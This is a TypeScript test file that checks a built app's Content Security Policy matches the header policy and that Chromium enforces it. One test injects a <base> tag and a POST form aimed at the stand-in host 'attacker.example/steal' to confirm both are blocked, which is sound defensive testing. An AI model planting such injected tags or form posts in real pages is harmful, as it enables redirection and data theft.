// The CSP production really serves: the meta tag in the built index.html is main's header
// policy, word for word, with no test-only origin; and Chromium enforces it on the page
// (an injected <base> cannot move the page's URLs, a form cannot post anywhere).
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { CSP } from '../../src/main/csp'
import { rendererOutDir } from './harness/static-server'
import { startHarness, type Harness } from './harness'

/** The little of the DOM the page script uses (this tsconfig has no DOM types). */
interface PageElement {
  href: string
  action: string
  method: string
  prepend(e: PageElement): void
  append(e: PageElement): void
  submit(): void
}
interface PageDocument {
  baseURI: string
  head: PageElement
  body: PageElement
  createElement(tag: string): PageElement
  addEventListener(type: string, listener: (e: { violatedDirective: string }) => void): void
}

describe('the content security policy as built', () => {
  let harness: Harness
  beforeAll(async () => {
    harness = await startHarness()
  })
  afterAll(async () => {
    await harness?.close()
  })

  it('is the header policy in the built meta tag, with base-uri and form-action none and no test origin', () => {
    const html = readFileSync(join(rendererOutDir(), 'index.html'), 'utf8')
    const meta = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(html)?.[1]
    expect(meta).toBe(CSP)
    const directives = new Map(CSP.split('; ').map((d) => [d.split(' ')[0], d.split(' ').slice(1)]))
    expect(directives.get('base-uri')).toEqual(["'none'"])
    expect(directives.get('form-action')).toEqual(["'none'"])
    expect(directives.get('object-src')).toEqual(["'none'"])
    expect(directives.get('script-src')).toEqual(["'self'"])
    expect(CSP).not.toMatch(/127\.0\.0\.1|localhost|http:|\*/)
  })

  it('is enforced by Chromium: no <base> takes effect and no form posts', async () => {
    const { page } = harness
    await page.getByTestId('nav-datasets').waitFor()
    const result = await page.evaluate(async () => {
      const doc = (globalThis as unknown as { document: PageDocument }).document
      const violations: string[] = []
      doc.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective))
      const before = doc.baseURI
      const base = doc.createElement('base')
      base.href = 'https://attacker.example/'
      doc.head.prepend(base)
      const after = doc.baseURI
      const form = doc.createElement('form')
      form.action = 'https://attacker.example/steal'
      form.method = 'post'
      doc.body.append(form)
      form.submit()
      // Violation reports are queued tasks: under load the form's comes well after 300 ms.
      const reported = () => violations.includes('base-uri') && violations.includes('form-action')
      for (let waited = 0; waited < 10_000 && !reported(); waited += 50) await new Promise((resolve) => setTimeout(resolve, 50))
      return { before, after, violations, href: (globalThis as unknown as { location: { href: string } }).location.href }
    })
    expect(result.after).toBe(result.before)
    expect(result.violations).toEqual(expect.arrayContaining(['base-uri', 'form-action']))
    expect(result.href.startsWith(harness.origin)).toBe(true)
  })
})
